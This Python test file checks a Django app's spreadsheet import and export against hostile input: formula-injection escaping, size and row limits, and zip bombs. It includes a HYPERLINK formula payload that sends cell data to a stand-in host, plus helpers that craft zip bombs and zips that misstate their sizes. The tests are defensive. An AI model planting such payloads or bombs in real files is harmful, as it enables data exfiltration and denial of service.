"""Spreadsheets and CSV files as hostile input: bounded memory whatever the file, limits that say
which limit, and text that never becomes a live formula (core.spreadsheets is the one owner)."""

import csv
import io
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from django.test import override_settings
from openpyxl import Workbook, load_workbook

from kinomost.core.errors import ImportRejected
from kinomost.core.spreadsheets import FORMULA_START, csv_cell, unescape, xlsx_row

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B5,"Click")',
    "+7 495 123-45-67",
    "-1",
    "@SUM(1)",
    "'=already quoted",
    "''+two quotes",
    "＝全角",
    "'plain quote",
    "plain",
]


# --- the formula rule ------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_a_csv_cell_never_starts_a_formula_and_unescapes_to_the_original(value):
    cell = csv_cell(value)
    assert cell[0] not in FORMULA_START
    assert unescape(cell) == value


def test_only_text_is_escaped_numbers_stay_numbers():
    assert csv_cell(-1) == -1 and csv_cell("-1") == "'-1" and csv_cell("") == ""


def test_an_xlsx_row_keeps_text_starting_with_equals_as_a_string_cell():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append(xlsx_row(sheet, HOSTILE + [42]))
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.value for c in cells] == HOSTILE + [42]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE) + ["n"]


# --- limits ----------------------------------------------------------------------------------------


def _workbook(rows: int, text: str = "x") -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(["ref", "kind", "title:en"])
    for n in range(rows):
        sheet.append([f"R-{n}", "feature", f"{text} {n}"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_file_over_the_byte_limit_is_refused_naming_the_limit():
    from kinomost.catalog.io.reading import read_file

    with override_settings(IMPORT_MAX_BYTES=1000), pytest.raises(ImportRejected) as refused:
        read_file(b"ref,kind\n" + b"A,feature\n" * 200, "w.csv")
    assert refused.value.problems[0]["limit"] == "KINOMOST_IMPORT_MAX_BYTES"
    assert "KINOMOST_IMPORT_MAX_BYTES" in refused.value.message


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_file_over_the_row_limit_is_refused_naming_the_limit(kind):
    from kinomost.catalog.io.reading import read_file

    data = ("ref,kind\n" + "A,feature\n" * 11).encode() if kind == "csv" else _workbook(11)
    with override_settings(IMPORT_MAX_ROWS=10), pytest.raises(ImportRejected) as refused:
        header, rows = read_file(data, f"w.{kind}")
        list(rows)
    assert refused.value.problems[0]["limit"] == "KINOMOST_IMPORT_MAX_ROWS"
    with override_settings(IMPORT_MAX_ROWS=11):
        assert len(list(read_file(data, f"w.{kind}")[1])) == 11


def test_a_workbook_declaring_more_than_the_expanded_limit_is_refused_before_unzipping():
    from kinomost.catalog.io.reading import read_file

    data = _workbook(2000, "a long title that repeats")
    expanded = sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(data)).infolist())
    with override_settings(IMPORT_MAX_EXPANDED_BYTES=expanded - 1), pytest.raises(ImportRejected) as refused:
        read_file(data, "w.xlsx")
    assert refused.value.problems[0]["limit"] == "KINOMOST_IMPORT_MAX_EXPANDED_BYTES"
    with override_settings(IMPORT_MAX_EXPANDED_BYTES=expanded * 4 + 4):  # the shared strings take a quarter
        assert len(list(read_file(data, "w.xlsx")[1])) == 2000


def _same_sheet_listed(data: bytes, times: int) -> bytes:
    """The workbook with its one sheet part named `times` times in workbook.xml: each sheet is read,
    so the bytes unzipped are `times` those the zip declares."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename == "xl/workbook.xml":
                text = body.decode()
                sheet = re.search(r"<sheet [^>]*/>", text).group()
                copies = "".join(
                    re.sub(r'name="[^"]*"', f'name="S{n}"', sheet).replace('sheetId="1"', f'sheetId="{n + 2}"') for n in range(times - 1)
                )
                body = text.replace(sheet, sheet + copies).encode()
            target.writestr(info.filename, body)
    return out.getvalue()


def test_the_bytes_actually_unzipped_are_counted_not_only_the_declared_sizes():
    from kinomost.rights.avails.export import write_xlsx
    from kinomost.rights.avails.xlsx import read_xlsx
    from tests.rights.test_avails_ledger import movie

    buffer = io.BytesIO()
    write_xlsx([movie(f"FILM-{n}") for n in range(300)], buffer)
    data = _same_sheet_listed(buffer.getvalue(), 6)
    declared = sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(data)).infolist())
    with override_settings(IMPORT_MAX_EXPANDED_BYTES=declared * 2), pytest.raises(ImportRejected) as refused:
        read_xlsx(io.BytesIO(data))
    assert refused.value.problems[0]["limit"] == "KINOMOST_IMPORT_MAX_EXPANDED_BYTES"
    with override_settings(IMPORT_MAX_EXPANDED_BYTES=declared * 8):
        assert len(read_xlsx(io.BytesIO(data)).rows) == 300 * 6


def test_a_zip_that_lies_about_its_sizes_is_refused_as_damaged_not_read():
    from kinomost.catalog.io.reading import read_file

    data = bytearray(_workbook(50))
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = archive.getinfo("xl/worksheets/sheet1.xml")
    # the central directory entry of the sheet: its uncompressed size at offset 24
    entry = data.index(b"PK\x01\x02", archive.start_dir)
    while data[entry + 46 : entry + 46 + len(info.filename)] != info.filename.encode():
        entry = data.index(b"PK\x01\x02", entry + 4)
    data[entry + 24 : entry + 28] = (100).to_bytes(4, "little")
    with pytest.raises(ImportRejected) as refused:
        header, rows = read_file(bytes(data), "w.xlsx")
        list(rows)
    assert "not an XLSX workbook" in refused.value.message


# --- memory: refused bombs cost little, measured in a fresh interpreter -------------------------------

BOMB_SCRIPT = r"""
import os, resource, sys
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "kinomost.settings")
import django
django.setup()
from kinomost.core.errors import ImportRejected

# the one maker of the sharedStrings bomb, which the memory benchmark measures too
sys.path.insert(0, "bench")
from import_memory import sharedstrings_bomb as xlsx_bomb

case = sys.argv[1]
if case == "xlsx-bomb":
    data = xlsx_bomb(1 << 30)
    from kinomost.catalog.io.reading import read_file
    read = lambda: list(read_file(data, "bomb.xlsx")[1])
elif case == "avails-bomb":
    data = xlsx_bomb(1 << 30)
    from kinomost.rights.avails.records import read_avails
    read = lambda: read_avails(data, "bomb.xlsx")
else:  # a 50 MB CSV of 2.7 million short rows
    data = b"ref,kind,title:en\n" + b"R-1,feature,Film\n" * 2_700_000
    from kinomost.catalog.io.reading import read_file
    read = lambda: list(read_file(data, "huge.csv")[1])
try:
    read()
    print("accepted")
except ImportRejected as exc:
    print("refused", exc.problems[0].get("limit") or exc.message)
# VmHWM, not ru_maxrss: Linux carries ru_maxrss over from the parent (pytest) across fork and exec
peak = next((int(l.split()[1]) for l in open("/proc/self/status") if l.startswith("VmHWM:")), None)
print("MB", len(data) / 1e6, (peak or resource.getrusage(resource.RUSAGE_SELF).ru_maxrss) // 1024)
"""


@pytest.mark.parametrize(
    "case, limit",
    [
        ("xlsx-bomb", "KINOMOST_IMPORT_MAX_EXPANDED_BYTES"),
        ("avails-bomb", "KINOMOST_IMPORT_MAX_EXPANDED_BYTES"),
        ("huge-csv", "KINOMOST_IMPORT_MAX_ROWS"),
    ],
)
def test_a_refused_bomb_costs_less_than_300_mb(case, limit):
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    for name in ("KINOMOST_IMPORT_MAX_BYTES", "KINOMOST_IMPORT_MAX_ROWS", "KINOMOST_IMPORT_MAX_EXPANDED_BYTES"):
        env.pop(name, None)
    done = subprocess.run([sys.executable, "-c", BOMB_SCRIPT, case], capture_output=True, text=True, env=env, cwd=ROOT, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    verdict, sizes = done.stdout.splitlines()[-2:]
    size_mb, peak_mb = float(sizes.split()[1]), int(sizes.split()[2])
    assert verdict == f"refused {limit}"
    assert size_mb < 60 and peak_mb < 300, done.stdout


def test_csv_writer_output_is_what_the_rule_says():
    """The csv module quotes but does not neutralise; csv_cell does, and survives its quoting."""
    text = io.StringIO()
    csv.writer(text).writerow([csv_cell(v) for v in HOSTILE])
    back = next(csv.reader(io.StringIO(text.getvalue())))
    assert [unescape(v) for v in back] == HOSTILE and all(v[0] not in FORMULA_START for v in back)


@pytest.mark.parametrize("language, word", [("ru", "импорт"), ("zh-hans", "导入")])
def test_the_refusals_are_translated_and_still_name_the_setting(language, word):
    from django.utils import translation

    from kinomost.core.spreadsheets import check_size

    with translation.override(language), override_settings(IMPORT_MAX_BYTES=10), pytest.raises(ImportRejected) as refused:
        check_size(11)
    assert word in refused.value.message and "KINOMOST_IMPORT_MAX_BYTES" in refused.value.message
